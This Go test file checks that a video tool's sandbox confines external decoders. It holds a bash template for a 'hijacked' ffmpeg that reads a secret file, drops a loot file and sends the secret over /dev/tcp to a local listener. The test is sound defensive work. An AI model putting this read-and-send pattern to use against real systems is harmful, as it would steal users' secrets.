package main

import (
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/spool-video/spool/internal/process"
)

// hijacked is a program that does what a decoder would do that a hostile source
// has taken over, and then its work: it takes a file of the user's, leaves one,
// and calls home.
const hijacked = `#!/bin/bash
{
	read -r secret < %[1]q && echo "$secret" > %[2]q
	echo x > %[2]q
	exec 9<> /dev/tcp/127.0.0.1/%[3]d && echo "$secret" >&9
} 2> /dev/null < /dev/null
exec %[4]q "$@"
`

// A decoder that was taken over reads no file but its source, writes none and
// reaches nobody; what it was to make is made.
func TestHijackedDecoderGetsNothing(t *testing.T) {
	t.Parallel()
	if can := process.Supported(); !can.Files || !can.Ports {
		t.Skip("this kernel cannot confine programs: " + can.String())
	}
	h := newHome(t)
	canary, loot := h.path("canary"), h.path("loot")
	if err := os.WriteFile(canary, []byte("a secret\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	var calls atomic.Int32
	answered := make(chan struct{})
	go func() {
		defer close(answered)
		for {
			c, err := listener.Accept()
			if err != nil {
				return
			}
			calls.Add(1)
			c.Close()
		}
	}()
	port := listener.Addr().(*net.TCPAddr).Port
	stand := func(name string) string {
		path := h.path(name + "-hijacked")
		if err := os.WriteFile(path, fmt.Appendf(nil, hijacked, canary, loot, port, program(t, name)), 0o700); err != nil {
			t.Fatal(err)
		}
		return path
	}
	h.ffmpeg = stand("ffmpeg")
	// Not confined, it has its way: the test can fail.
	if _, err := process.Run(t.Context(), process.Command{Path: h.ffmpeg, Args: []string{"-version"}}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(loot); err != nil || calls.Load() == 0 {
		t.Fatalf("it could take nothing (%v), or reach nobody (%d calls)", err, calls.Load())
	}
	if err := os.Remove(loot); err != nil {
		t.Fatal(err)
	}
	calls.Store(0)
	said := h.do(t, exitReady, "run", h.clip, "--ffprobe", stand("ffprobe"))
	listener.Close()
	<-answered
	if _, err := os.Stat(loot); err == nil {
		t.Error("it left a file")
	}
	if n := calls.Load(); n > 0 {
		t.Errorf("it reached a server %d times", n)
	}
	if masters, _ := filepath.Glob(h.path("bucket", "*", "master.m3u8")); len(masters) != 1 {
		t.Errorf("%d masters; it said:\n%s", len(masters), said)
	}
	if doctor := h.do(t, exitReady, "doctor"); !strings.Contains(doctor, "sandbox") {
		t.Errorf("the doctor says nothing of it:\n%s", doctor)
	}
}

// An ffmpeg that does not start when it is confined, and cannot encode, still
// checks packages, Spool's and others'.
func TestVerifyWithAnUnusualFFmpeg(t *testing.T) {
	t.Parallel()
	if can := process.Supported(); !can.Files {
		t.Skip("this kernel cannot confine programs: " + can.String())
	}
	h := newHome(t)
	h.do(t, exitReady, "run", h.clip)
	needed, unusual := h.path("library"), h.path("unusual", "ffmpeg")
	text := fmt.Sprintf("#!/bin/sh\nread -r word < %s || exit 127\ncase $* in *-encoders*) exit;; esac\nexec %s \"$@\"\n", needed, program(t, "ffmpeg"))
	if err := errors.Join(os.WriteFile(needed, []byte("here\n"), 0o600), os.Mkdir(filepath.Dir(unusual), 0o700), os.WriteFile(unusual, []byte(text), 0o700)); err != nil { //nolint:gosec // it is to be run
		t.Fatal(err)
	}
	for _, what := range []string{"--all", h.one(t, "bucket", "*", "master.m3u8")} { // the file is read as anybody's
		if said := h.do(t, exitReady, "verify", what, "--ffmpeg", unusual); !strings.Contains(said, "good") {
			t.Errorf("verify %s:\n%s", what, said)
		}
	}
}
